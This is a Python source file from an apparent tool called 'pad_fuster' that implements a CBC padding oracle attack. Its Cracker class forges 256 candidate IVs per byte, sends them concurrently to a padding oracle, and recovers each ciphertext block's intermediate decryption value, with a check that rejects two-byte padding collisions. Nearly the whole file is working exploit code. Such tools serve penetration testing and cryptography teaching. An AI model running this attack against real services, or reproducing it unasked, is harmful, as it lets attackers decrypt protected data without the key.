import asyncio
from collections import deque
from dataclasses import dataclass
from typing import Callable, Deque, Optional

from structlog.typing import FilteringBoundLogger

from pad_fuster.blocks import hex_block
from pad_fuster.errors import ConfigurationError, OracleExhausted, OracleTransportFailure
from pad_fuster.log import get_logger
from pad_fuster.oracle import Oracle
from pad_fuster.state_snapshot import ByteSnapshot

DEFAULT_CONCURRENCY = 64
GUESSES = 256


@dataclass(frozen=True, slots=True)
class Attempt:
    """One guess for one byte position: a candidate IV paired with the target block."""

    guess: int
    iv: bytes
    block: bytes

    @property
    def payload(self) -> bytes:
        return self.iv + self.block


@dataclass(slots=True)
class _Round:
    """Coordinator state for one byte position. Only touched from the event loop."""

    attempts: Deque[Attempt]
    requests: int = 0
    found: Optional[Attempt] = None
    found_after: int = 0


class Cracker:
    """Recovers the intermediate value (raw block decryption) of a ciphertext block.

    Bytes are recovered from the last position to the first. For each
    position all 256 guesses are queued and a pool of `concurrency` workers
    submits them to the oracle; the first positive decision wins and any
    attempts still in flight are drained and ignored.

    verify_last_byte: confirm a positive at the last byte position by
        flipping the byte before it, to reject two-byte padding collisions.
    strict: abort on oracle transport failures instead of counting them as
        negative decisions.
    """

    def __init__(
        self,
        oracle: Oracle,
        *,
        concurrency: int = DEFAULT_CONCURRENCY,
        log: Optional[FilteringBoundLogger] = None,
        verify_last_byte: bool = False,
        strict: bool = False,
        on_byte: Optional[Callable[[ByteSnapshot], None]] = None,
    ):
        if concurrency < 1:
            raise ConfigurationError(f"concurrency must be a positive integer, got {concurrency}")
        self.oracle = oracle
        self.concurrency = concurrency
        self.log = get_logger("cracker", log)
        self.verify_last_byte = verify_last_byte
        self.strict = strict
        self.on_byte = on_byte

    async def crack(self, block: bytes) -> bytes:
        block = bytes(block)
        block_size = len(block)
        intermediate = bytearray(block_size)

        # Iterate backwards over each byte in the block.
        # Padding length k is the number of bytes from the end of the block.
        for pad_length_k in range(1, block_size + 1):
            byte_index_i = block_size - pad_length_k
            attempt, requests = await self.crack_byte(block, intermediate, pad_length_k)
            intermediate[byte_index_i] = attempt.guess ^ pad_length_k

            self.log.info("found byte", byte_index=byte_index_i, requests=requests)
            self.log.debug(
                "byte recovered",
                guess=f"{attempt.guess:02x}",
                plain=f"{pad_length_k:02x}",
                intermediate=f"{intermediate[byte_index_i]:02x}",
            )

            if self.on_byte is not None:
                self.on_byte(ByteSnapshot(
                    block_size=block_size,
                    byte_index_i=byte_index_i,
                    pad_length_k=pad_length_k,
                    byte_value_g=attempt.guess,
                    intermediate_byte=intermediate[byte_index_i],
                    requests=requests,
                    intermediate=tuple(
                        None if i < byte_index_i else intermediate[i] for i in range(block_size)
                    ),
                ))

        return bytes(intermediate)

    def build_attempts(self, block: bytes, intermediate: bytearray, pad_length_k: int) -> Deque[Attempt]:
        """Queue the 256 candidate IVs for the byte at block_size - pad_length_k.

        Already-solved tail bytes are set so that they decrypt to pad_length_k.
        """
        block_size = len(block)
        byte_index_i = block_size - pad_length_k
        iv_head = bytes(byte_index_i)
        iv_tail = bytes(b ^ pad_length_k for b in intermediate[byte_index_i + 1:])

        self.log.debug("probing", iv=f"{iv_head.hex()}??{iv_tail.hex()}")

        return deque(
            Attempt(guess=g, iv=iv_head + bytes([g]) + iv_tail, block=block)
            for g in range(GUESSES)
        )

    async def crack_byte(self, block: bytes, intermediate: bytearray, pad_length_k: int):
        """Search one byte position. Returns the winning attempt and the requests it took."""
        state = _Round(attempts=self.build_attempts(block, intermediate, pad_length_k))

        workers = [
            asyncio.create_task(self._worker(state, pad_length_k))
            for _ in range(min(self.concurrency, len(state.attempts)))
        ]
        try:
            await asyncio.gather(*workers)
        except BaseException:
            for worker in workers:
                worker.cancel()
            raise

        if state.found is None:
            raise OracleExhausted(byte_index=len(block) - pad_length_k, requests=state.requests)
        return state.found, state.found_after

    async def _worker(self, state: _Round, pad_length_k: int) -> None:
        while state.attempts and state.found is None:
            attempt = state.attempts.popleft()
            valid = await self.submit(attempt, pad_length_k)
            state.requests += 1

            if valid and state.found is None:
                state.found = attempt
                state.found_after = state.requests

    async def submit(self, attempt: Attempt, pad_length_k: int) -> bool:
        """Submit an attempt. Transport failures count as a negative decision."""
        valid = await self._ask(attempt)
        if valid and self.verify_last_byte and pad_length_k == 1:
            valid = await self.confirm(attempt)
        return valid

    async def confirm(self, attempt: Attempt) -> bool:
        """Flip the byte before the last one and re-submit.

        A genuine 0x01 padding hit survives the flip; a collision with a longer
        padding (02 02, 03 03 03, ...) does not.
        """
        flipped_idx = len(attempt.iv) - 2
        if flipped_idx < 0:
            return True

        iv = bytearray(attempt.iv)
        iv[flipped_idx] ^= 0x01
        confirmed = await self._ask(Attempt(guess=attempt.guess, iv=bytes(iv), block=attempt.block))
        if not confirmed:
            self.log.debug("rejected false positive", guess=f"{attempt.guess:02x}")
        return confirmed

    async def _ask(self, attempt: Attempt) -> bool:
        try:
            result = await self.oracle.test(attempt.iv, attempt.block)
        except OracleTransportFailure as e:
            if self.strict:
                raise
            self.log.warning("oracle failure counted as negative", iv=hex_block(attempt.iv), error=str(e))
            return False

        if result.debug_info:
            self.log.debug("oracle", iv=attempt.iv.hex(), info=result.debug_info, trace=True)
        return result.valid
